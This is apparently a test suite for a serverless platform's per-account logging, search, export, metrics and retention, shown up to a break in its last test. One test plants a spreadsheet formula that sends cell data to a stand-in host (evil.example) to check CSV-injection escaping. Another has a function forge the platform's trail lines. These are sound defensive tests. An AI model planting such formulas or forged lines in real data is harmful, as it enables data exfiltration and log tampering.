// Issue 12: the per-account data plane. A warm invocation needs no D1; records, logs and metrics
// live in the account's gate; log search (FTS5) and export (LivePerson's CSV, streamed); metrics
// (LivePerson's report and edgefn's own); retention; records moved over from D1.
import { runDurableObjectAlarm, runInDurableObject } from "cloudflare:test";
import { describe, expect, it } from "vitest";
import type { AccountGate } from "../src/gate/account-gate";
import { LEASE_MARGIN_MS } from "../src/gate/lease";
import type { RecordWithLogs } from "../src/gate/data-plane/types";
import { LOG_SCAN_MAX } from "../src/gate/data-plane/queries";
import { RETENTION_BUSY_PAUSE_MS, RETENTION_PAUSE_MS, RETENTION_STEP_ROWS } from "../src/gate/data-plane/retention";
import { CSV_HEADER, EXPORT_PAGE } from "../src/services/logs";
import { OPERATOR_TOKEN, call, deployed, env, invoke, json, newAccount, wireStatus, type TestAccount } from "./helpers/api";
import { gateOf, storedCount, storedRows, waitForStored } from "./helpers/data-plane";
import { expectError } from "./helpers/spec";

const LOGGER = `function lambda(input, callback) {
  const p = input.payload;
  console.info('order ' + p.order + ' accepted for ' + p.who, { order: p.order, channel: 'web' });
  if (p.fail) { console.error('payment declined; retry later', p.order); return callback(new Error('declined')); }
  console.warn('slow upstream');
  callback(null, 'ok ' + p.order);
}`;

const logs_ = (a: TestAccount, query: string, key = a.invocation) => logs(a, query, key);
const logs = async (a: TestAccount, query: string, key = a.invocation) => call(`/api/account/${a.accountId}/logs${query}`, { key });

/** Invokes and waits until its record is stored; answers the invocation id. */
async function invoked(a: TestAccount, fn: string, payload: unknown, headers?: Record<string, string>) {
  const res = await invoke(a, fn, { headers: [], payload }, a.invocation, headers);
  await res.text();
  const id = res.headers.get("x-invocation-id")!;
  await waitForStored(a.accountId, 1, "id = ?", id);
  return id;
}

/** A synthetic ended invocation, stored straight through the gate (as the runtime hands it over). */
function syntheticRecord(lambdaUuid: string, startedAt: number, logCount: number, status: RecordWithLogs["record"]["status"] = "SUCCEEDED", durationMs = 12): RecordWithLogs {
  const id = crypto.randomUUID();
  return {
    record: { id, lambdaUuid, deploymentId: null, version: 1, trigger: "http", status, errorCode: null, startedAt, durationMs, requestId: `req-${id}`, outbound: [], scheduleId: null },
    logs: Array.from({ length: logCount }, (_, i) => ({ level: "Info" as const, message: `entry ${i} of ${id}; with "quotes"`, extras: [{ i }], timestamp: startedAt + i })),
  };
}

/** Waits until the account's gate moved its D1 records (none, for a new account) and knows it. */
async function legacySettled(a: TestAccount) {
  for (let i = 0; i < 100; i++) {
    if (!(await gateOf(a.accountId).listRecords(a.accountId, { limit: 1 })).legacyPending) return;
    await runDurableObjectAlarm(gateOf(a.accountId));
  }
  throw new Error("the gate never finished moving D1 records");
}

/** Every user table of D1 renamed away (and back): any statement the platform makes fails. */
async function withD1Down<T>(fn: () => Promise<T>): Promise<T> {
  const tables = (await env.DB.prepare("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' AND name NOT LIKE '_cf_%' AND name NOT LIKE 'd1_%'").all<{ name: string }>()).results.map((r) => r.name);
  for (const t of tables) await env.DB.exec(`ALTER TABLE "${t}" RENAME TO "${t}__down"`);
  try {
    return await fn();
  } finally {
    for (const t of tables) await env.DB.exec(`ALTER TABLE "${t}__down" RENAME TO "${t}"`);
  }
}

describe("a warm invocation touches no D1", () => {
  it("with every D1 statement failing, a warm function still runs, and its records are stored and then listed", async () => {
    const a = await newAccount();
    const fn = await deployed(a, LOGGER);
    // Warm: the first call teaches this isolate the account's gate epoch, the second is cached with it.
    await invoked(a, fn, { order: 0, who: "warm-up" });
    await invoked(a, fn, { order: 1, who: "warm-up" });
    await legacySettled(a);
    const ids = await withD1Down(async () => {
      // D1 really is down: a management call, which reads D1, fails.
      expect((await call(`/api/account/${a.accountId}/lambdas`, { key: a.developer })).status).toBeGreaterThanOrEqual(500);
      const out: string[] = [];
      for (let n = 2; n <= 4; n++) {
        const res = await invoke(a, fn, { headers: [], payload: { order: n, who: "d1-down" } });
        expect(res.status, await res.clone().text()).toBe(200);
        expect(await json(res)).toBe(`ok ${n}`);
        out.push(res.headers.get("x-invocation-id")!);
      }
      await waitForStored(a.accountId, 5);
      // Readable from the data plane alone, with D1 still down.
      const { rows, legacyPending } = await gateOf(a.accountId).listRecords(a.accountId, { limit: 10 });
      expect(legacyPending).toBe(false);
      expect(rows.map((r) => r.id)).toEqual(expect.arrayContaining(out));
      return out;
    });
    const listed = await json(await call(`/api/account/${a.accountId}/invocations?limit=10`, { key: a.invocation }));
    expect(listed.items.map((i: any) => i.id)).toEqual(expect.arrayContaining(ids));
    const one = await json(await call(`/api/account/${a.accountId}/invocations/${ids[0]}`, { key: a.invocation }));
    expect(one.logs.map((l: any) => l.message)).toEqual(["order 2 accepted for d1-down", "slow upstream"]);
  });
});

describe("logs that survive a timeout or a crash (the runtime's Tail)", () => {
  /** Polls the record until its logs satisfy `done`. */
  async function recordLogs(a: TestAccount, id: string, done: (logs: any[]) => boolean) {
    let logs: any[] = [];
    for (let i = 0; i < 100; i++) {
      const res = await call(`/api/account/${a.accountId}/invocations/${id}`, { key: a.invocation });
      if (res.status === 200) {
        logs = (await json(res)).logs;
        if (done(logs)) return logs;
      } else await res.text();
      await new Promise((r) => setTimeout(r, 30));
    }
    return logs;
  }

  it("the entries a function wrote before it timed out are kept with its TIMEOUT record, redacted, within LivePerson's limits", async () => {
    const a = await newAccount();
    const secret = `s3cret-${crypto.randomUUID()}`;
    const created = await call(`/api/account/${a.accountId}/secrets`, { key: a.admin, body: { key: "api_token", value: secret, type: "string" } });
    expect(created.status).toBe(201);
    const fn = await deployed(
      a,
      `function lambda(input, callback) {
        console.info('step 1: fetched the order');
        console.warn('step 2: upstream slow, token ' + ${JSON.stringify(secret)});
        for (let i = 0; i < 12; i++) console.error('retry ' + i);
        setTimeout(() => callback(null, 'too late'), 2500); // after the timeout (1.5 s in tests)
      }`,
    );
    const res = await invoke(a, fn, { headers: [], payload: {} });
    expect(wireStatus(res)).toBe(901);
    const id = res.headers.get("x-invocation-id")!;
    const logs = await recordLogs(a, id, (l) => l.some((e) => e.message.includes("step 1")));
    expect(logs[0]).toMatchObject({ level: "Info", message: "step 1: fetched the order" });
    expect(logs[1].message).toBe("step 2: upstream slow, token [secret:api_token]");
    expect(JSON.stringify(logs)).not.toContain(secret);
    // 10 entries, then LivePerson's log-limit-reached entry.
    expect(logs).toHaveLength(11);
    expect(logs[10]).toMatchObject({ level: "Error", message: expect.stringContaining("log-limit-reached") });
    const [record] = await storedRows(a.accountId, "SELECT status, logs_awaited FROM invocations WHERE id = ?", id);
    expect(record).toEqual({ status: "TIMEOUT", logs_awaited: null });
    // Searchable like any other entry.
    expect((await json(await logs_(a, "?q=upstream"))).items.map((i: any) => i.invocationId)).toEqual([id]);
  });

  it("the gate adds runtime logs only with the invocation's trail token, and only once", async () => {
    const a = await newAccount();
    const victim = syntheticRecord("fn-victim", Date.now() - 1000, 0, "TIMEOUT");
    await gateOf(a.accountId).settleMany({ records: [{ ...victim, logsAwaited: "the-real-token" }] });
    const line = (message: string) => [{ level: "Info" as const, message, extras: [], timestamp: Date.now() }];
    const messages = async () => (await storedRows(a.accountId, "SELECT message FROM logs WHERE invocation_id = ? ORDER BY seq", victim.record.id)).map((r) => r.message);
    await gateOf(a.accountId).amendLogs(a.accountId, victim.record.id, "a-guess", line("forged"));
    await gateOf(a.accountId).amendLogs(a.accountId, victim.record.id, "", line("forged"));
    expect(await messages()).toEqual([]);
    await gateOf(a.accountId).amendLogs(a.accountId, victim.record.id, "the-real-token", line("real"));
    await gateOf(a.accountId).amendLogs(a.accountId, victim.record.id, "the-real-token", line("again"));
    expect(await messages()).toEqual(["real"]);
  });

  it("a hostile function's attempts to write the platform's trail lines are only its own log entries", async () => {
    const a = await newAccount();
    const victim = syntheticRecord("fn-victim", Date.now() - 1000, 0, "TIMEOUT");
    await gateOf(a.accountId).settleMany({ records: [{ ...victim, logsAwaited: "the-real-token" }] });
    const forged = JSON.stringify("\u0001edgefn-trail " + JSON.stringify({ invocation: victim.record.id, token: "a-guess" }));
    const fn = await deployed(
      a,
      `function lambda(input, callback) {
        for (const m of ['dir', 'trace', 'table', 'group', 'dirxml', 'count', 'assert']) {
          try { m === 'assert' ? console.assert(false, ${forged}) : console[m](${forged}); } catch {}
        }
        process.stdout.write(${forged} + '\\n');
        console.info('own line');
        // Ends its call after the host gave up without answering, so its trail stays open.
        setTimeout(() => { throw new Error('gone'); }, 2500);
      }`,
    );
    const res = await invoke(a, fn, { headers: [], payload: {} });
    expect(wireStatus(res)).toBe(901);
    const id = res.headers.get("x-invocation-id")!;
    const logs = await recordLogs(a, id, (l) => l.some((e) => e.message === "own line"));
    expect(logs.map((l) => l.message)).toEqual([expect.stringContaining(`"invocation":"${victim.record.id}"`), "own line"]);
    expect(await storedRows(a.accountId, "SELECT key FROM logs WHERE invocation_id = ?", victim.record.id)).toEqual([]);
  });

  it("a function that answers normally gets its logs from its own answer, once (the Tail adds nothing)", async () => {
    const a = await newAccount();
    const fn = await deployed(a, "function lambda(input, callback) { console.info('only once'); callback(null, 1); }");
    const id = await invoked(a, fn, {});
    await new Promise((r) => setTimeout(r, 200)); // time for a Tail delivery, were one to come
    const logs = await recordLogs(a, id, () => true);
    expect(logs.map((l) => l.message)).toEqual(["only once"]);
  });
});

describe("log search", () => {
  it("finds words, phrases and prefixes over message and extras, newest first, with filters and cursors", async () => {
    const a = await newAccount();
    const fn = await deployed(a, LOGGER);
    const other = await deployed(a, LOGGER);
    const first = await invoked(a, fn, { order: 101, who: "alice" });
    const failed = await invoked(a, fn, { order: 102, who: "bob", fail: true });
    const third = await invoked(a, other, { order: 103, who: "carol" }, { "X-Request-ID": "req-carol-103" });

    const words = await json(await logs(a, "?q=accepted"));
    expect(words.items.map((i: any) => i.invocationId)).toEqual([third, failed, first]);
    expect(words.items[0]).toEqual({
      lambdaUUID: other,
      invocationId: third,
      requestId: "req-carol-103",
      level: "Info",
      message: "order 103 accepted for carol",
      extras: [{ order: 103, channel: "web" }],
      timestamp: expect.any(Number),
    });
    // A phrase, a prefix, a word only in extras, boolean operators.
    expect((await json(await logs(a, `?q=${encodeURIComponent('"payment declined"')}`))).items.map((i: any) => i.invocationId)).toEqual([failed]);
    expect((await json(await logs(a, "?q=pay*"))).items).toHaveLength(1);
    expect((await json(await logs(a, "?q=web"))).items).toHaveLength(3);
    expect((await json(await logs(a, `?q=${encodeURIComponent("accepted AND (alice OR carol)")}`))).items.map((i: any) => i.invocationId)).toEqual([third, first]);
    // Filters: function, levels (comma or repeated), request id, the invocation's status, time.
    expect((await json(await logs(a, `?lambdaUUID=${other}`))).items.map((i: any) => i.message)).toEqual(["slow upstream", "order 103 accepted for carol"]);
    expect((await json(await logs(a, "?levels=Warn,Error"))).items.map((i: any) => i.level).sort()).toEqual(["Error", "Warn", "Warn"]);
    expect((await json(await logs(a, "?levels=Error&levels=Warn"))).items).toHaveLength(3);
    expect((await json(await logs(a, "?requestId=req-carol-103"))).items).toHaveLength(2);
    expect((await json(await logs(a, "?status=CODING_FAILURE"))).items.map((i: any) => i.invocationId)).toEqual([failed, failed]);
    expect((await json(await logs(a, `?to=${Date.now() - 3_600_000}`))).items).toEqual([]);
    // Pages of 2, newest first, that never overlap and end with a null cursor.
    const seen: string[] = [];
    let cursor: string | null = "";
    for (let page = 0; cursor !== null; page++) {
      const body: any = await json(await logs(a, `?limit=2${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ""}`));
      seen.push(...body.items.map((i: any) => `${i.invocationId}/${i.message}`));
      cursor = body.nextCursor;
      expect(page).toBeLessThan(5);
    }
    expect(seen).toHaveLength(6);
    expect(new Set(seen).size).toBe(6);
  });

  it("one call reads at most LOG_SCAN_MAX entries: a rare match past it comes on a later page, through nextCursor", async () => {
    const a = await newAccount();
    const t = Date.now() - 3_600_000;
    const rare = syntheticRecord("fn-scan", t, 1, "CODING_FAILURE");
    rare.logs[0]!.level = "Error";
    const common = Array.from({ length: Math.ceil((LOG_SCAN_MAX + 500) / 10) }, (_, i) => syntheticRecord("fn-scan", t + 1000 + i * 20, 10));
    for (const batch of [[rare], ...Array.from({ length: Math.ceil(common.length / 100) }, (_, i) => common.slice(i * 100, (i + 1) * 100))]) {
      await gateOf(a.accountId).settleMany({ records: batch });
    }
    const first = await json(await logs(a, "?levels=Error"));
    expect(first.items).toEqual([]);
    expect(first.nextCursor).not.toBeNull();
    const second = await json(await logs(a, `?levels=Error&cursor=${encodeURIComponent(first.nextCursor)}`));
    expect(second.items.map((i: any) => i.invocationId)).toEqual([rare.record.id]);
    expect(second.nextCursor).toBeNull();
    // The same through the full-text index and the function's index.
    const byText = await json(await logs(a, `?q=entry&status=CODING_FAILURE`));
    expect(byText.items).toEqual([]);
    expect((await json(await logs(a, `?q=entry&status=CODING_FAILURE&cursor=${encodeURIComponent(byText.nextCursor)}`))).items).toHaveLength(1);
    // Export follows the cursor by itself.
    const csv = (await (await call(`/api/account/${a.accountId}/logs/export?filterLevels=Error`, { key: a.invocation })).text()).trim().split("\n");
    expect(csv).toHaveLength(2);
  });

  it("the index is kept by day: pages run newest first across days, and q with a request id stays within that request", async () => {
    const a = await newAccount();
    const day = 86_400_000;
    const records = [5, 3, 1].map((d) => syntheticRecord("fn-days", Date.now() - d * day, 3));
    await gateOf(a.accountId).settleMany({ records });
    expect((await storedRows(a.accountId, "SELECT count(*) AS n FROM log_days"))[0].n).toBe(3);
    const seen: string[] = [];
    let cursor: string | null = "";
    for (let page = 0; cursor !== null; page++) {
      const body: any = await json(await logs(a, `?q=entry&limit=2${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ""}`));
      seen.push(...body.items.map((i: any) => i.message));
      cursor = body.nextCursor;
      expect(page).toBeLessThan(6);
    }
    const expected = [...records].reverse().flatMap((r) => [...r.logs].reverse().map((l) => l.message));
    expect(seen).toEqual(expected);
    // Oldest first (export) across the same days.
    const csv = (await (await call(`/api/account/${a.accountId}/logs/export?startTimestamp=0`, { key: a.invocation })).text()).trim().split("\n").slice(1);
    expect(csv).toHaveLength(9);
    const middle = records[1]!.record;
    expect((await json(await logs(a, `?q=entry&requestId=${middle.requestId}`))).items.map((i: any) => i.invocationId)).toEqual([middle.id, middle.id, middle.id]);
    expect((await json(await logs(a, `?q=entry&requestId=req-none`))).items).toEqual([]);
    // A prefix and a span of one day.
    const span = `&from=${records[0]!.record.startedAt - 1}&to=${records[0]!.record.startedAt + 10}`;
    expect((await json(await logs(a, `?q=ent*${span}`))).items.map((i: any) => i.invocationId)).toEqual(Array(3).fill(records[0]!.record.id));
  });

  it("a gate whose data plane has the first layout (one index with the text) keeps its entries, searchable, after the upgrade", async () => {
    const a = await newAccount();
    const entry = syntheticRecord("fn-v1", Date.now() - 60_000, 0);
    const found = await runInDurableObject(gateOf(a.accountId), async (_: AccountGate, state) => {
      const sql = state.storage.sql;
      for (const t of ["logs", "log_days", "log_query_check"]) sql.exec(`DROP TABLE IF EXISTS ${t}`);
      sql.exec("CREATE TABLE logs (key INTEGER PRIMARY KEY, invocation_id TEXT NOT NULL, lambda_uuid TEXT NOT NULL, request_id TEXT NOT NULL, status TEXT NOT NULL, seq INTEGER NOT NULL, level TEXT NOT NULL)");
      sql.exec("CREATE VIRTUAL TABLE log_text USING fts5 (message, extras, tokenize = 'unicode61')");
      const key = entry.record.startedAt * 1024;
      sql.exec("INSERT INTO invocations (id, lambda_uuid, trigger, status, started_at, duration_ms, request_id, outbound) VALUES (?, 'fn-v1', 'http', 'SUCCEEDED', ?, 1, 'req-v1', '[]')", entry.record.id, entry.record.startedAt);
      sql.exec("INSERT INTO logs VALUES (?, ?, 'fn-v1', 'req-v1', 'SUCCEEDED', 0, 'Info')", key, entry.record.id);
      sql.exec("INSERT INTO log_text (rowid, message, extras) VALUES (?, 'kept across the upgrade', '[{\"k\":1}]')", key);
      await state.storage.put("dataPlaneSchema", 1);
      const { DataPlane } = await import("../src/gate/data-plane/data-plane");
      const plane = new DataPlane(state.storage);
      await plane.open(Date.now());
      return {
        search: plane.findLogs({ q: "upgrade", limit: 10, order: "newest" }),
        record: plane.getRecord(entry.record.id),
        logText: sql.exec("SELECT count(*) AS n FROM sqlite_master WHERE name = 'log_text'").one().n,
      };
    });
    expect(found.logText).toBe(0);
    expect("hits" in found.search && found.search.hits.map((h) => [h.message, h.extras])).toEqual([["kept across the upgrade", [{ k: 1 }]]]);
    expect(found.record?.logs.map((l) => l.message)).toEqual(["kept across the upgrade"]);
  });

  it("a malformed query, level, cursor or time is a 400 that names the problem", async () => {
    const a = await newAccount();
    const malformed = await logs(a, `?q=${encodeURIComponent('"unclosed phrase')}`);
    const body = await expectError(malformed, 400, "com.liveperson.faas.es.badinput");
    expect(body.errorMsg).toMatch(/q is not a valid search: .*unterminated string|fts5/i);
    expect((await json(await logs(a, `?q=${encodeURIComponent("AND OR")}`))).errorMsg ?? "").toMatch(/q is not a valid search/);
    expect((await json(await logs(a, "?levels=Loud"))).errorMsg).toMatch(/Loud is not a log level/);
    expect((await json(await logs(a, "?cursor=bm9wZQ"))).errorMsg).toMatch(/cursor/);
    expect((await json(await logs(a, "?from=yesterday"))).errorMsg).toMatch(/from must be/);
    expect((await logs(a, `?q=${"x".repeat(1001)}`)).status).toBe(400);
  });

  it("every role reads logs; another account's logs are never found, and its path is refused", async () => {
    const a = await newAccount();
    const b = await newAccount();
    const fn = await deployed(a, LOGGER);
    await invoked(a, fn, { order: 7, who: "tenant-a" });
    for (const key of [a.admin, a.developer, a.invocation]) expect((await json(await logs(a, "?q=tenant", key))).items).toHaveLength(1);
    expect((await json(await logs(b, "?q=tenant"))).items).toEqual([]);
    expect([401, 403, 404]).toContain((await logs(a, "?q=tenant", b.admin)).status);
    expect([401, 403, 404]).toContain((await call(`/api/account/${a.accountId}/logs/export`, { key: b.admin })).status);
  });
});

describe("log export", () => {
  it("is LivePerson's CSV as lpf reads it, oldest first, quoted where needed, filtered by function, span and levels", async () => {
    const a = await newAccount();
    const fn = await deployed(a, LOGGER);
    const start = Date.now() - 1;
    await invoked(a, fn, { order: 1, who: "semi;colon" });
    await invoked(a, fn, { order: 2, who: "x", fail: true });
    const res = await call(`/api/account/${a.accountId}/logs/export?v=1&lambdaUUID=${fn}&startTimestamp=${start}&endTimestamp=${Date.now()}&filterLevels=Info&filterLevels=Error`, { key: a.developer });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
    const lines = (await res.text()).split("\n");
    expect(lines[0]).toBe(CSV_HEADER);
    expect(lines.at(-1)).toBe("");
    const rows = lines.slice(1, -1);
    expect(rows).toHaveLength(3);
    expect(rows[0]).toMatch(new RegExp(`^${fn};[^;]+;\\d{13};Info;"order 1 accepted for semi;colon";"\\[\\{""order"":1,""channel"":""web""\\}\\]"$`));
    expect(rows.map((r) => r.split(";")[3])).toEqual(["Info", "Info", "Error"]);
    // NDJSON, and LivePerson V2's per-function path.
    const nd = await call(`/api/account/${a.accountId}/functions/${fn}/logs/export?format=ndjson&filterLevels=Warn`, { key: a.invocation });
    expect(nd.headers.get("content-type")).toBe("application/x-ndjson");
    const items = (await nd.text()).trim().split("\n").map((l) => JSON.parse(l));
    expect(items.map((i) => [i.level, i.message])).toEqual([["Warn", "slow upstream"]]);
    expect((await call(`/api/account/${a.accountId}/logs/export?filterLevels=Verbose`, { key: a.invocation })).status).toBe(400);
  });

  it("a hostile function cannot plant a spreadsheet formula in the export: its cells start with an apostrophe", async () => {
    const a = await newAccount();
    const fn = await deployed(a, `function lambda(input, callback) {
  console.info('=HYPERLINK("https://evil.example/?"&A1,"open")');
  console.info('@SUM(A1:A9)', { note: 'plain' });
  callback(null, 'ok');
}`);
    await invoked(a, fn, {});
    const rows = (await (await call(`/api/account/${a.accountId}/logs/export?lambdaUUID=${fn}`, { key: a.invocation })).text()).trim().split("\n").slice(1);
    const messages = rows.map((r) => r.split(";")[4]);
    expect(messages).toEqual([`"'=HYPERLINK(""https://evil.example/?""&A1,""open"")"`, "'@SUM(A1:A9)"]);
  });

  it("streams every entry past the page size, with no line cap", async () => {
    const a = await newAccount();
    const t = Date.now() - 60_000;
    const batch = Array.from({ length: 120 }, (_, i) => syntheticRecord("fn-export", t + i * 20, 10));
    expect(await gateOf(a.accountId).settleMany({ records: batch })).toBe(120);
    expect(120 * 10).toBeGreaterThan(EXPORT_PAGE);
    const res = await call(`/api/account/${a.accountId}/logs/export`, { key: a.invocation });
    const lines = (await res.text()).trim().split("\n");
    expect(lines).toHaveLength(1 + 1200);
    const stamps = lines.slice(1).map((l) => Number(l.split(";")[2]));
    expect(stamps).toEqual([...stamps].sort((x, y) => x - y));
  });
});

describe("metrics", () => {
  it("LivePerson's invocation report: buckets with exactly from, to and the states asked for", async () => {
    const a = await newAccount();
    const fn = await deployed(a, LOGGER);
    await invoked(a, fn, { order: 1, who: "m" });
    await invoked(a, fn, { order: 2, who: "m" });
    await invoked(a, fn, { order: 3, who: "m", fail: true });
    const now = Date.now();
    const states = ["UNKOWN", "SUCCEEDED", "CODING_FAILURE", "PLATFORM_FAILURE", "TIMEOUT"].map((s) => `invocationStates=${s}`).join("&");
    const res = await call(`/api/account/${a.accountId}/reports/invocations/${fn}?v=1&startTimestamp=${now - 3_600_000}&endTimestamp=${now}&bucketSize=300&${states}`, { key: a.invocation });
    expect(res.status).toBe(200);
    const { invocationStatistics } = await json(res);
    expect(invocationStatistics.length).toBeGreaterThanOrEqual(12);
    for (const b of invocationStatistics) {
      expect(Object.keys(b).sort()).toEqual(["CODING_FAILURE", "PLATFORM_FAILURE", "SUCCEEDED", "TIMEOUT", "UNKOWN", "from", "to"]);
      expect(b.to - b.from).toBe(300_000);
    }
    const total = (k: string) => invocationStatistics.reduce((n: number, b: any) => n + b[k], 0);
    expect([total("SUCCEEDED"), total("CODING_FAILURE"), total("UNKOWN")]).toEqual([2, 1, 0]);
    // Only the states asked for; a bad bucket size or state is a 400.
    const only = await json(await call(`/api/account/${a.accountId}/reports/invocations/${fn}?bucketSize=3600&invocationStates=SUCCEEDED`, { key: a.invocation }));
    expect(Object.keys(only.invocationStatistics[0]).sort()).toEqual(["SUCCEEDED", "from", "to"]);
    expect((await call(`/api/account/${a.accountId}/reports/invocations/${fn}?bucketSize=60`, { key: a.invocation })).status).toBe(400);
    expect((await call(`/api/account/${a.accountId}/reports/invocations/${fn}?invocationStates=GREAT`, { key: a.invocation })).status).toBe(400);
  });

  it("edgefn's metrics add duration percentiles per bucket; counts come from the buckets, not the records", async () => {
    const a = await newAccount();
    const hour = 3_600_000;
    const base = Date.now() - (Date.now() % hour) - 2 * hour;
    const batch = [
      ...Array.from({ length: 90 }, (_, i) => syntheticRecord("fn-m", base + i, 0, "SUCCEEDED", 8)),
      ...Array.from({ length: 10 }, (_, i) => syntheticRecord("fn-m", base + 100 + i, 0, "TIMEOUT", 30_000)),
      syntheticRecord("fn-other", base, 0),
    ];
    await gateOf(a.accountId).settleMany({ records: batch });
    const res = await json(await call(`/api/account/${a.accountId}/metrics?lambdaUUID=fn-m&from=${base}&to=${base + hour - 1}&bucket=3600`, { key: a.invocation }));
    expect(res.buckets).toHaveLength(1);
    const [b] = res.buckets;
    expect(b).toMatchObject({ from: base, to: base + hour, SUCCEEDED: 90, TIMEOUT: 10, CODING_FAILURE: 0, PLATFORM_FAILURE: 0 });
    expect(b.p50).toBeGreaterThan(5);
    expect(b.p50).toBeLessThanOrEqual(10);
    expect(b.p95).toBeGreaterThan(20_000);
    expect(b.p99).toBeLessThanOrEqual(30_000);
    // Deleting the records leaves the counts: they are kept per bucket.
    await storedRows(a.accountId, "DELETE FROM invocations");
    const again = await json(await call(`/api/account/${a.accountId}/metrics?from=${base}&to=${base + hour - 1}`, { key: a.invocation }));
    expect(again.buckets[0]).toMatchObject({ SUCCEEDED: 91, TIMEOUT: 10 });
    // invocationCounts (lpf get account) reads the same buckets.
    const counts = await json(await call(`/api/account/${a.accountId}/reports/invocationCounts?startTimestamp=${base}&endTimestamp=${base + hour - 1}`, { key: a.invocation }));
    expect(counts).toMatchObject({ successfulInvocations: 91, unsuccessfulInvocations: 10 });
    expect((await call(`/api/account/${a.accountId}/metrics?bucket=301`, { key: a.invocation })).status).toBe(400);
    expect((await call(`/api/account/${a.accountId}/metrics?from=0&bucket=300`, { key: a.invocation })).status).toBe(400); // too many buckets
  });

  it("the summary: functions by state against the limit, this month, and the last 24 hours by hour", async () => {
    const a = await newAccount();
    const fn = await deployed(a, LOGGER);
    await invoked(a, fn, { order: 1, who: "s" });
    await invoked(a, fn, { order: 2, who: "s", fail: true });
    const s = await json(await call(`/api/account/${a.accountId}/reports/summary`, { key: a.invocation }));
    expect(s.functions).toEqual({ Draft: 0, Productive: 1, Modified: 0, total: 1, limit: 50 });
    expect(s.invocationsThisMonth).toMatchObject({ admitted: 2, fairUse: 150_000, enforced: false });
    expect(s.outcomesThisMonth).toEqual({ SUCCEEDED: 1, CODING_FAILURE: 1, PLATFORM_FAILURE: 0, TIMEOUT: 0 });
    expect(s.last24Hours).toHaveLength(24);
    expect(s.last24Hours.at(-1)).toMatchObject({ SUCCEEDED: 1, CODING_FAILURE: 1 });
  });
});

describe("retention", () => {
  it("the operator's logRetentionDays deletes older records, logs and buckets in bounded steps; newer ones stay", async () => {
    const a = await newAccount();
    const day = 86_400_000;
    const old = Array.from({ length: 60 }, (_, i) => syntheticRecord("fn-r", Date.now() - 3 * day + i * 1000, 10));
    const recent = syntheticRecord("fn-r", Date.now() - day / 2, 2);
    await gateOf(a.accountId).settleMany({ records: [...old, recent] });
    expect((await storedRows(a.accountId, "SELECT count(*) AS n FROM logs"))[0].n).toBe(602);
    // Searches that stop reading early (a page filled at once) through each index: none may leave a
    // read open, or SQLite would refuse to drop the expired days' index below.
    for (const query of ["?q=entry&limit=1", "?limit=1", "?lambdaUUID=fn-r&limit=1", `?requestId=${old[0]!.record.requestId}&limit=1`, "?q=ent*&limit=1"]) {
      expect((await json(await logs(a, query))).items).toHaveLength(1);
    }
    const set = await call(`/admin/accounts/${a.accountId}/limits`, { method: "PUT", key: OPERATOR_TOKEN, body: { logRetentionDays: 2 } });
    expect(set.status, await set.clone().text()).toBe(200);
    // One step deletes at most RETENTION_STEP_ROWS per table; the next follows after a short pause.
    // (The gate's alarm may be running when the new retention arrives — its first one, started when
    // the records were stored — and then the step comes with the alarm after it: poll for it.)
    const logCount = async () => (await storedRows(a.accountId, "SELECT count(*) AS n FROM logs"))[0].n as number;
    for (let i = 0; i < 20 && (await logCount()) === 602; i++) {
      await runDurableObjectAlarm(gateOf(a.accountId));
      if ((await logCount()) === 602) await new Promise((r) => setTimeout(r, RETENTION_PAUSE_MS + 5));
    }
    const left = await logCount();
    expect(left).toBeLessThan(602);
    for (let i = 0; i < 20 && (await logCount()) > 2; i++) {
      await new Promise((r) => setTimeout(r, RETENTION_PAUSE_MS + 5)); // the next step is due after the pause
      await runDurableObjectAlarm(gateOf(a.accountId));
    }
    expect((await storedRows(a.accountId, "SELECT id FROM invocations")).map((r) => r.id)).toEqual([recent.record.id]);
    expect((await storedRows(a.accountId, "SELECT count(*) AS n FROM logs"))[0].n).toBe(2);
    expect((await storedRows(a.accountId, "SELECT count(*) AS n FROM metrics WHERE bucket < ?", Date.now() - 2 * day))[0].n).toBe(0);
    // The alarm is armed for when the oldest remaining record expires.
    // (Read from the gate itself: storage shows no alarm while one runs, and workerd may be running
    // the short pause's alarm right now.)
    const alarmAt = async () => runInDurableObject(gateOf(a.accountId), (gate: AccountGate) => (gate as unknown as { alarmAt: number | null }).alarmAt);
    for (let i = 0; i < 20 && !(((await alarmAt()) ?? 0) > Date.now() + day); i++) {
      await new Promise((r) => setTimeout(r, RETENTION_PAUSE_MS + 5));
      await runDurableObjectAlarm(gateOf(a.accountId));
    }
    expect(await alarmAt()).toBeGreaterThan(Date.now() + day);
    // (Once retention is done: the last step, after the last rows, drops the expired days' index.)
    // The full-text index goes by whole days: every day left still has unexpired time, and only
    // the days listed have a table.
    const days = (await storedRows(a.accountId, "SELECT day FROM log_days")).map((r) => r.day as number);
    expect(days.length).toBeGreaterThan(0);
    for (const d of days) expect((d + 1) * day).toBeGreaterThan(Date.now() - 2 * day);
    const tables = (await storedRows(a.accountId, "SELECT name FROM sqlite_master WHERE name GLOB 'log_text_*' AND sql LIKE 'CREATE VIRTUAL TABLE%'")).map((r) => r.name);
    expect(tables.sort()).toEqual(days.map((d) => `log_text_${d}`).sort());
    // Out of range is a 400.
    expect((await call(`/admin/accounts/${a.accountId}/limits`, { method: "PUT", key: OPERATOR_TOKEN, body: { logRetentionDays: 366 } })).status).toBe(400);
  });
  it("steps are spaced out while the account is busy (an admission in the last second), and follow quickly when idle", async () => {
    const a = await newAccount();
    const day = 86_400_000;
    const old = Array.from({ length: 40 }, (_, i) => syntheticRecord("fn-busy", Date.now() - 3 * day + i * 1000, 10));
    await gateOf(a.accountId).settleMany({ records: old });
    expect((await call(`/admin/accounts/${a.accountId}/limits`, { method: "PUT", key: OPERATOR_TOKEN, body: { logRetentionDays: 2 } })).status).toBe(200);
    const pauses = await runInDurableObject(gateOf(a.accountId), async (gate: AccountGate, state) => {
      const inside = gate as unknown as { lastAcquireAt: number; data: { chores: { retentionAt: number | null } } };
      const entries = () => state.storage.sql.exec<{ n: number }>("SELECT count(*) AS n FROM logs").one().n;
      const pauseAfterStep = async (lastAcquireAt: number) => {
        inside.lastAcquireAt = lastAcquireAt;
        inside.data.chores.retentionAt = 0; // due now
        const before = Date.now();
        await gate.alarm();
        return inside.data.chores.retentionAt! - before;
      };
      const stored = entries();
      const busy = await pauseAfterStep(Date.now());
      const deletedByOneStep = stored - entries();
      return { busy, deletedByOneStep, idle: await pauseAfterStep(0) };
    });
